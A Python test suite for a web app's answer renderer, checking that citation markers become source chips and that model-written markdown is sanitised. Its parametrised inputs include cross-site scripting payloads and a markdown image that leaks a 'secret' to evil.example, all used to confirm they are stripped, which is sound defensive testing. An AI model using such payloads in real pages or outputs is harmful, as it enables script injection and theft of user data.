"""Answers: citations become chips, and nothing that a model writes can act."""

from __future__ import annotations

import re

import pytest
from bs4 import BeautifulSoup

from apps.core.markdown import CitationLink, render_answer, render_markdown

LINKS = {
    1: CitationLink(1, "/d/1/?start=5&end=9", "Handbook, page 2", "/d/1/source/"),
    2: CitationLink(2, "/d/2/", 'A "quoted" <name>'),
}


def parse(text: str) -> BeautifulSoup:
    return BeautifulSoup(render_answer(text, citations=LINKS), "html.parser")


def chips(text: str) -> list[str]:
    return [str(chip["data-citation"]) for chip in parse(text).select("a.citation")]


@pytest.mark.parametrize(
    ("text", "numbers"),
    [
        ("One [1].", ["1"]),
        ("Two [1][2].", ["1", "2"]),
        ("A list [1, 2].", ["1", "2"]),
        ("Like a link [1](https://evil.example/).", ["1"]),
        ("At a line's start\n\n[2]: text", ["2"]),
        ("In **bold [1]**", ["1"]),
        ("| a |\n|---|\n| b [2] |", ["2"]),
        ("Not retrieved [3].", []),
        ("Partly [1, 3].", ["1"]),
        ("`code [1]`", []),
        ("```\ncode [1]\n```", []),
        ("array[0]", []),
    ],
)
def test_markers_become_chips_of_retrieved_passages(text: str, numbers: list[str]) -> None:
    assert chips(text) == numbers


def test_a_chip_links_and_names_its_source() -> None:
    chip = parse("See [1]").select_one("a.citation")
    assert chip is not None
    assert chip["href"] == "/d/1/?start=5&end=9"
    assert chip["data-source-url"] == "/d/1/source/"
    assert chip["aria-label"] == "Source 1: Handbook, page 2"
    assert chip.text == "1"


def test_a_label_cannot_break_out_of_its_chip() -> None:
    chip = parse("See [2]").select_one("a.citation")
    assert chip is not None
    assert chip["aria-label"] == 'Source 2: A "quoted" <name>'


def test_a_marker_of_nothing_leaves_no_trace() -> None:
    assert parse("It lapses in March [7]. Then").text.strip() == "It lapses in March. Then"


def test_a_zero_index_stays_as_written() -> None:
    assert "array[0]" in parse("array[0] is first").text


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="/x" hx-get="/y" onclick="z()">a</a>',
        "![track](https://evil.example/?q=secret)",
        "[a](javascript:alert(1))",
        "[a](data:text/html;base64,PHNjcmlwdD4=)",
        "<div style='position:fixed' hx-trigger='load'>",
        '[a](https://x.example/ "t\\" onmouseover=alert(1) x=\\"")',
        "<svg/onload=alert(1)>",
        "</article><form action=//evil.example>",
    ],
)
def test_nothing_active_survives(text: str) -> None:
    soup = parse(text)
    tags = {tag.name for tag in soup.find_all(True)}
    assert tags <= {"p", "a", "em", "strong", "code", "pre", "span"}
    for tag in soup.find_all(True):
        for name, value in tag.attrs.items():
            assert not re.match(r"on|hx-|data-hx-|style|src", name)
            assert not str(value).lower().startswith(("javascript:", "data:"))


def test_an_image_leaves_its_words() -> None:
    assert (
        parse("See ![the plan](https://x.example/a.png) here").text.strip() == "See the plan here"
    )


def test_ordinary_markdown_is_kept() -> None:
    soup = parse("# Title\n\n- **a**\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |")
    assert [soup.find(tag) is not None for tag in ("h1", "li", "strong", "td")] == [True] * 4


def test_plain_markdown_keeps_markers() -> None:
    assert "[1]" in render_markdown("As it says [1].")
    assert "citation" not in render_markdown("As it says [1].")
